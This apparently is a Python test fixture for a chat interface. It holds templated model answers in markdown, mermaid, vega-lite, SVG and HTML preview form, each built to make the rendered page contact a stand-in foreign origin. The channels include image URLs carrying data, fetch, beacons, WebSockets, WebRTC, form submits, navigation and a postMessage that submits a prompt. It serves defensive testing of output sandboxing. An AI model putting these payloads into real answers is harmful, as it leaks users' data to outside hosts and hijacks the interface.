"""Answers of a model that try to make the page contact a foreign address by themselves.

`{T}` is the foreign origin, `{H}` its host and port. Every way carries `MARK-<way>`.
"""

# ruff: noqa: E501 (the hostile texts are clearer in one line each)

from __future__ import annotations

import base64

MARKDOWN = """
![sum]({T}/MARK-image.png?iban=DE00)

![sum][ref]

[ref]: {T}/MARK-image-reference.png

Text with ![inline]({T}/MARK-image-inline.png) and a [link]({T}/MARK-link).

<img src="{T}/MARK-html-image.png">

<iframe src="{T}/MARK-html-iframe"></iframe>

<video>{T}/MARK-html-video.mp4</video>

<audio>{T}/MARK-html-audio.mp3</audio>

![svg](data:image/svg+xml;base64,{SVG})

| a | b |
|---|---|
| ![cell]({T}/MARK-image-cell.png) | x |

> ![quote]({T}/MARK-image-quote.png)

$$\\includegraphics{{{T}/MARK-katex.png}}$$

```mermaid
graph TD
  A["<img src='{T}/MARK-mermaid-image.png'>"] --> B
  style A fill:url({T}/MARK-mermaid-style)
```

```vega-lite
{{"data": {{"url": "{T}/MARK-vega-data.csv"}}, "mark": "bar",
 "encoding": {{"x": {{"field": "a"}}, "y": {{"field": "b"}}}}}}
```

```vega-lite
{{"data": {{"values": [{{"u": "{T}/MARK-vega-image.png"}}]}}, "mark": {{"type": "image", "width": 9, "height": 9}},
 "encoding": {{"url": {{"field": "u", "type": "nominal"}}}}}}
```

```svg
<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><style>@import url({T}/MARK-svg-import.css);</style>
<image href="{T}/MARK-svg-image.png" width="9" height="9"/></svg>
```
"""

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
    '<image href="{T}/MARK-data-svg.png" width="9" height="9"/></svg>'
)

# What the preview of an answer (the artifact panel) runs. Scripts are allowed in there.
ARTIFACT = """
```html
<!doctype html><html><head>
<link rel="stylesheet" href="{T}/MARK-style.css">
<link rel="preconnect" href="{T}">
<link rel="dns-prefetch" href="{T}">
<link rel="prefetch" href="{T}/MARK-prefetch">
<link rel="preload" as="image" href="{T}/MARK-preload.png">
<link rel="modulepreload" href="{T}/MARK-modulepreload.js">
<link rel="manifest" href="{T}/MARK-manifest.json">
<link rel="icon" href="{T}/MARK-icon.png">
<style>@import url({T}/MARK-css-import.css); @font-face {{ font-family: f; src: url({T}/MARK-font.woff2) }}
body {{ font-family: f; background: url({T}/MARK-css-background.png) }}</style>
<script src="{T}/MARK-script.js"></script>
<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{T}/MARK-speculation"]}}]}}</script>
</head><body><p id="here">preview is here</p>
<img src="{T}/MARK-img.png"><object data="{T}/MARK-object"></object><embed src="{T}/MARK-embed">
<iframe src="{T}/MARK-frame"></iframe><video poster="{T}/MARK-poster.png" src="{T}/MARK-video.mp4"></video>
<form id="f" action="{T}/MARK-form" method="post"><input name="x" value="y"></form>
<a id="ping" href="#" ping="{T}/MARK-ping">x</a>
<script>
const T = "{T}", attempt = (work) => {{ try {{ const r = work(); if (r && r.catch) r.catch(() => 0) }} catch {{}} }};
attempt(() => fetch(T + "/MARK-fetch", {{mode: "no-cors"}}));
attempt(() => navigator.sendBeacon(T + "/MARK-beacon", "x"));
attempt(() => new WebSocket(T.replace("http", "ws") + "/MARK-websocket"));
attempt(() => new EventSource(T + "/MARK-eventsource"));
attempt(() => {{ const x = new XMLHttpRequest(); x.open("POST", T + "/MARK-xhr"); x.send("x") }});
attempt(() => import(T + "/MARK-import.js"));
attempt(() => new Worker(URL.createObjectURL(new Blob([`fetch("${{T}}/MARK-worker",{{mode:"no-cors"}})`]))));
attempt(() => document.getElementById("f").submit());
attempt(() => document.getElementById("ping").click());
attempt(() => window.open(T + "/MARK-open"));
attempt(() => {{ top.location = T + "/MARK-top" }});
attempt(() => parent.postMessage({{type: "input:prompt:submit", text: "MARK-prompt"}}, "*"));
attempt(() => {{ const f = document.createElement("iframe"); f.srcdoc =
  `<script>fetch("${{T}}/MARK-nested",{{mode:"no-cors"}});new Image().src="${{T}}/MARK-nested-image"</scr` + `ipt>`;
  document.body.append(f) }});
attempt(() => {{ const f = document.createElement("iframe"); document.body.append(f);
  f.contentWindow.fetch(T + "/MARK-blank", {{mode: "no-cors"}}) }});
setTimeout(() => attempt(() => {{ location.href = T + "/MARK-location" }}), 2500);
</script></body></html>
```
"""

WEBRTC = """
```html
<!doctype html><html><body><p id="here">preview is here</p><script>
const dial = (scope) => {{ try {{
  const p = new scope.RTCPeerConnection({{iceServers: [{{urls: "stun:{H}"}}, {{urls: "turn:{H}?transport=tcp",
    username: "MARK-webrtc", credential: "x"}}]}});
  p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));
}} catch {{}} }};
dial(window);
const f = document.createElement("iframe"); document.body.append(f); dial(f.contentWindow);
const g = document.createElement("iframe"); g.srcdoc = `<script>onmessage=0;(${{dial}})(window)</scr` + `ipt>`;
document.body.append(g);
</script></body></html>
```
"""


def fill(text: str, origin: str) -> str:
    host = origin.partition("://")[2]
    svg = base64.b64encode(SVG.format(T=origin).encode()).decode()
    return text.format(T=origin, H=host, SVG=svg)
